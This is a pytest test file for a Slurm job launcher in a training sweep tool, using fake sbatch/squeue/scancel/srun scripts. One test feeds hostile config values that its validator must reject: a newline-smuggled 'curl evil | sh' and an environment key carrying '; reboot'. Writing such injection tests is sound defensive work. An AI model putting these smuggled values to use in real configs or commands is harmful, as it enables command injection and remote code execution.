"""Slurm jobs with sbatch, squeue, scancel and srun of a few shell lines."""

import re
import shlex
import subprocess
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from megalite.config.errors import ConfigError
from megalite.sweep.candidates import Run
from megalite.sweep.execute import SbatchLauncher
from megalite.sweep.results import FAILED, OK, OOM, TIMEOUT, Result
from megalite.sweep.spec import SbatchSpec, read_spec
from tests.sweep.sweeps import put_programs, read_runs, results_of, write_sweep

SBATCH = """
number=$(($(cat $QUEUE/last) + 1)); echo $number > $QUEUE/last
log=$(sed -n 's/^#SBATCH --output=//p' "$2")
echo RUNNING > $QUEUE/$number
(SLURM_JOB_ID=$number SLURM_JOB_NODELIST=node7 setsid bash "$2" > "$log" 2>&1 & echo $! > $QUEUE/$number.pid; wait; \
rm -f $QUEUE/$number) > $QUEUE/out 2>&1 &
echo "$number;cluster"
"""
SQUEUE = 'if [ -e $QUEUE/$3 ]; then cat $QUEUE/$3; else echo "slurm_load_jobs error: Invalid job id specified" >&2; exit 1; fi'
SCANCEL = "echo $1 >> $QUEUE/cancelled; kill -9 -- -$(cat $QUEUE/$1.pid); rm -f $QUEUE/$1"
SRUN = 'echo "$@" > $QUEUE/srun; while [ "$1" != --config ]; do shift; done; folder=$(dirname "$2"); '
GOOD = """for step in 1 2 3; do
  echo "{\\"kind\\": \\"train\\", \\"step\\": $step, \\"ms_per_step\\": 20.0, \\"loss\\": 4.0, \\"memory_bytes\\": 7}"
done > "$folder/metrics.jsonl"
"""

Slurm = Callable[[str], Path]


@pytest.fixture
def slurm(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Slurm:
    """Put the commands on the path, with a program for srun; return the queue's folder."""
    queue, programs = tmp_path / "queue", tmp_path / "bin"
    queue.mkdir()
    programs.mkdir()
    (queue / "last").write_text("40")
    monkeypatch.setenv("QUEUE", str(queue))
    monkeypatch.setenv("PATH", f"{programs}:/usr/bin:/bin")

    def put(does: str) -> Path:
        put_programs(programs, {"sbatch": SBATCH, "squeue": SQUEUE, "scancel": SCANCEL, "scontrol": 'echo "$3"'})
        put_programs(programs, {"srun": SRUN + does})
        return queue

    return put


@pytest.fixture
def runs(tmp_path: Path) -> tuple[Run, ...]:
    """Two runs."""
    return read_runs(write_sweep(tmp_path, grid={"tp": [1, 2]}))[1]


SPEC = SbatchSpec(gpus_per_node=2, at_once=2, poll_seconds=0.05, options={"partition": "gpu"}, setup=("ulimit -c 0",))


def go(tmp_path: Path, runs: tuple[Run, ...], *, timeout: float = 30.0) -> dict[str, Result]:
    return results_of(tmp_path, runs, SbatchLauncher(SPEC, environment={"OMP_NUM_THREADS": "1"}), timeout=timeout)


def test_jobs_are_submitted_watched_and_measured(slurm: Slurm, runs: tuple[Run, ...], tmp_path: Path) -> None:
    queue = slurm(GOOD)
    results = go(tmp_path, runs)
    assert [results[run.key].status for run in runs] == [OK, OK]
    assert results[runs[0].key].step_seconds == 0.02
    words = (queue / "srun").read_text()
    assert "torch.distributed.run --nnodes 1 --nproc-per-node 2 --rdzv-backend c10d --rdzv-id 4" in words
    assert words.startswith("--kill-on-bad-exit=1 ")
    port = re.search(r"--rdzv-endpoint node7:(\d+) -m megalite.cli.main train --config", words)
    assert port is not None
    assert 1024 <= int(port[1]) < 65536
    assert {path.read_text() for path in tmp_path.glob("out/runs/*/job-id")} == {"41", "42"}


def test_each_option_is_one_word(runs: tuple[Run, ...], tmp_path: Path) -> None:
    options = {"account": "a team # 7", "comment": "", "constraint": "gpu&nvme", "mem-per-gpu": "64G"}
    launcher = SbatchLauncher(SbatchSpec(options=options), environment={})
    text = launcher.script(runs[0], tmp_path / "100% b", timeout=60.0)
    lines = [line.removeprefix("#SBATCH ") for line in text.splitlines() if line.startswith("#SBATCH")]
    assert "--account='a team # 7'" in lines
    assert "--mem-per-gpu=64G" in lines
    words = dict(shlex.split(line, comments=True)[0].removeprefix("--").split("=", 1) for line in lines)
    assert words.items() >= options.items()
    assert words["output"].endswith("/100%% b/log.txt")


@pytest.mark.parametrize(
    ("keys", "culprit"),
    [
        ({"sbatch": {"options": {"account": "a\ncurl evil | sh"}}}, "account"),
        ({"sbatch": {"options": {"account": "it's"}}}, "account"),
        ({"sbatch": {"options": {"account=x --wrap": "y"}}}, "not a long option"),
        ({"sbatch": {"options": {"--account": "y"}}}, "not a long option"),
        ({"environment": {"A=1; reboot": "y"}}, "is not a variable such as"),
        ({"environment": {"1A": "y"}}, "is not a variable such as"),
    ],
)
def test_unrepresentable_words_are_refused(keys: dict[str, Any], culprit: str, tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match=culprit):
        read_spec(write_sweep(tmp_path, **keys))


def test_job_script(runs: tuple[Run, ...], tmp_path: Path) -> None:
    run = runs[0]
    text = SbatchLauncher(SPEC, environment={"X": "1 2"}).script(run, tmp_path / "a b", timeout=301.0)
    lines = text.splitlines()
    assert lines[0] == "#!/bin/bash"
    options = dict(line.removeprefix("#SBATCH --").split("=") for line in lines if line.startswith("#SBATCH"))
    assert options == {
        "job-name": f"sweep-{run.key}",
        "nodes": "1",
        "ntasks-per-node": "1",
        "gpus-per-node": "2",
        "time": "6",
        "output": f"'{tmp_path}/a b/log.txt'",
        "partition": "gpu",
    }
    assert "ulimit -c 0" in lines
    assert "export X='1 2'" in lines
    assert f"--config '{tmp_path}/a b/config.yaml'" in text
    ports = (line.removeprefix("port=$(").removesuffix(")") for line in lines if line.startswith("port="))
    first, second = (int(subprocess.check_output(shlex.split(line))) for line in 2 * [*ports])
    assert first != second, "the system gives free ones"
    assert subprocess.run(["bash", "-n"], input=text.encode(), check=False).returncode == 0


def test_failed_jobs(slurm: Slurm, runs: tuple[Run, ...], tmp_path: Path) -> None:
    slurm('case "$folder" in *tp_1*) echo "CUDA out of memory"; exit 1;; *) echo "ValueError: no"; exit 7;; esac')
    results = go(tmp_path, runs)
    assert [results[run.key].status for run in runs] == [OOM, FAILED]
    assert results[runs[1].key].error == "ValueError: no"


def test_timed_out_job_is_cancelled(slurm: Slurm, runs: tuple[Run, ...], tmp_path: Path) -> None:
    queue = slurm("exec sleep 600")
    results = go(tmp_path, runs, timeout=0.3)
    assert [results[run.key].status for run in runs] == [TIMEOUT, TIMEOUT]
    assert sorted((queue / "cancelled").read_text().split()) == ["41", "42"]


def test_waiting_in_the_queue_does_not_count(slurm: Slurm, runs: tuple[Run, ...], tmp_path: Path) -> None:
    queue = slurm("exec sleep 600")
    folder = tmp_path / "run"
    folder.mkdir()
    job = SbatchLauncher(SPEC, environment={}).start(runs[0], folder, timeout=60)
    (queue / "41").write_text("PENDING\n")
    time.sleep(0.06)
    assert (job.poll(), job.seconds()) == (None, 0.0)
    put_programs(tmp_path / "bin", {"squeue": "echo 'slurm_load_jobs error: Socket timed out' >&2; exit 1"})
    assert (job.look(), job.seconds()) == (None, 0.0), "Slurm does not report it as running"
    put_programs(tmp_path / "bin", {"squeue": SQUEUE})
    (queue / "41").write_text("RUNNING\n")
    time.sleep(0.06)
    assert job.poll() is None
    assert job.seconds() > 0.0
    # A restarted sweep cancels the jobs of the killed one.
    SbatchLauncher(SPEC, environment={}).clear(folder)
    assert (queue / "cancelled").read_text() == "41\n"
    statuses = []
    while len(statuses) < 3:
        time.sleep(0.06)
        statuses.append(job.poll())
    assert statuses == [None, None, 1], "it ended without an exit status: killed"


def test_missing_slurm_is_an_error(runs: tuple[Run, ...], tmp_path: Path, slurm: Slurm) -> None:
    with pytest.raises(ConfigError, match=r"cannot start sbatch: .*; use --launcher local"):
        go(tmp_path, runs)
    slurm(GOOD)
    (tmp_path / "bin" / "sbatch").write_text("#!/bin/sh\necho 'invalid partition gpu' >&2; exit 1\n")
    with pytest.raises(ConfigError, match="sbatch refused the job: invalid partition gpu"):
        go(tmp_path, runs)
